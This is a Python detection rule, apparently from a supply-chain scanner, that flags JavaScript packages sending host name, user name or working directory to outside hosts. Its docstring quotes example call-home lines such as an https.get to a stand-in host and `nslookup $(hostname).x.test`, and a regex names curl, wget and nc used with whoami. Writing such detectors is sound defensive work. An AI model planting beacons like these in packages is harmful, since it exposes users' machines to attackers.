"""Facts about the machine and its user are sent away.

What it sees
    Host name, user name, home or working directory, addresses (`os.hostname()`, `os.userInfo()`, `process.cwd()`, ...)
    in a request, a socket or a DNS name; also commands such as `curl ... $(whoami)` or `nslookup $(hostname).x.test`.

Why it matters
    It is the call home of dependency-confusion and typosquatting packages: the author learns which company's build
    machine took the bait. The same shape registers a victim with a command server.

Example
    `https.get("https://x.example.test/?h=" + os.hostname() + "&u=" + os.userInfo().username)`

What to do
    Do not install it. If it was installed, assume that host and user name are known outside, and look for what came
    next.

False alarms
    Telemetry of command-line tools sends such facts when the tool is used, mostly hashed: one fact, hashed facts and
    addresses that the caller gives are context only.

References
    ATT&CK T1082, T1033, T1041, T1071.004
"""

import itertools
import re
from collections.abc import Iterator

from lazaretto.detect.jscode import address, in_tests, network_calls, one_per_line, phase_of
from lazaretto.detect.pycode import Place, place
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.javascript import JavaScriptModule
from lazaretto.parse.js_nodes import arguments, callee_of
from lazaretto.parse.js_value import EMPTY

_WHO = re.compile(rb"hostname|userInfo|homedir|networkInterfaces|\bcwd\b|whoami")
_DNS = re.compile(rb"(?:lookup|resolve\w{0,8})\s*\(")
_COMMAND = re.compile(
    r"\b(?:curl|wget|nslookup|dig|ping|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b[^\n]{0,300}?"
    r"(?:\$\((?:whoami|hostname|id|pwd|uname|cat |env|printenv|ifconfig|base64 )|`(?:whoami|hostname|id|pwd|env)\b"
    r"|%USERNAME%|%COMPUTERNAME%|\$env:(?:USERNAME|COMPUTERNAME))"
    r"|\b(?:whoami|hostname|printenv|env)\b[^\n|]{0,60}\|[^\n]{0,200}\b(?:curl|wget|nc)\b",
)
_SAID = N_("sends facts about this machine ({facts}) to {address}")


def check(module: JavaScriptModule) -> Iterator[Match]:
    """Every sending of host facts."""
    if module.bulky or module.minified or _WHO.search(module.source) is None:
        return
    yield from one_per_line(itertools.chain(_requests(module), _names(module), _commands(module)))


def _requests(module: JavaScriptModule) -> Iterator[Match]:
    hashed = b"createHash" in module.source
    for call, _ in network_calls(module):
        total = EMPTY
        for given in arguments(call)[:4]:
            total = total | module.flow.value(given)
        facts = sorted(tag[4:] for tag in total.tags if tag.startswith("who:"))
        if not facts:
            continue
        target = module.flow.value(call)
        where = place(target.url)
        known = bool(target.tags & {"url:const", "url:decoded"})
        severity, confidence = Severity.LOW, Confidence.MEDIUM
        if where is Place.LOCAL:
            continue
        if not hashed and (where is Place.DROP or (known and where is Place.BARE and len(facts) > 1)):
            severity, confidence = Severity.HIGH, Confidence.HIGH
        elif not hashed and known and len(facts) > 2:
            severity, confidence = Severity.HIGH, Confidence.MEDIUM
        elif not hashed and known and len(facts) > 1:
            severity, confidence = Severity.MEDIUM, Confidence.MEDIUM
        yield _match(module, call.start_byte, call.end_byte, facts, address(target), severity, confidence)


def _names(module: JavaScriptModule) -> Iterator[Match]:
    """Host facts in a name that is looked up."""
    if b"dns" not in module.source:
        return
    for hit in itertools.islice(_DNS.finditer(module.source), 20):
        node = module.at(hit.end() - 1, hit.end())
        call = node.parent.parent if node is not None and node.parent is not None else None
        target = callee_of(call) if call is not None and call.type == "call_expression" else None
        if call is None or target is None or module.flow.callee(target)[0] not in ("dns", "dns/promises"):
            continue
        value = module.flow.value(arguments(call)[0]) if arguments(call) else EMPTY
        facts = sorted(tag[4:] for tag in value.tags if tag.startswith("who:"))
        # NOTE: looking up one's own name is what a server does at start; a name with more behind it is a message.
        spelled = module.source[call.start_byte : call.end_byte]
        if facts and (len(facts) > 1 or b"+" in spelled or b"${" in spelled or "decoded" in value.tags):
            yield _match(module, call.start_byte, call.end_byte, facts, "DNS", Severity.HIGH, Confidence.HIGH)


def _commands(module: JavaScriptModule) -> Iterator[Match]:
    for execution in module.executions:
        text = execution.code.text or execution.code.url if execution.kind == "command" else ""
        found = _COMMAND.search(text[:2000]) if text else None
        if found is not None:
            node = execution.node
            yield _match(
                module,
                node.start_byte,
                node.end_byte,
                ["command output"],
                found[0].split()[0],
                Severity.HIGH,
                Confidence.HIGH,
            )


def _match(
    module: JavaScriptModule,
    start: int,
    end: int,
    facts: list[str],
    where: str,
    severity: Severity,
    confidence: Confidence,
) -> Match:
    line, column = module.position(start)
    if in_tests(module.path):
        severity = min(severity, Severity.MEDIUM)
        confidence = Confidence.LOW
    return Match(
        _SAID,
        line=line,
        column=column,
        params={"facts": ", ".join(facts), "address": where},
        excerpt=module.quote(start, end),
        severity=severity,
        confidence=confidence,
        phase=phase_of(module.path),
    )


RULE = Rule(
    id="js/host-data-sent",
    title=N_("Sends facts about the machine away"),
    view=JavaScriptModule,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    phase=Phase.RUN,
    role=Role.SEND,
    check=check,
    doc=__doc__ or "",
    techniques=("T1082", "T1033", "T1041"),
    needles=(b"hostname", b"userInfo", b"homedir", b"networkInterfaces", b"whoami"),
)
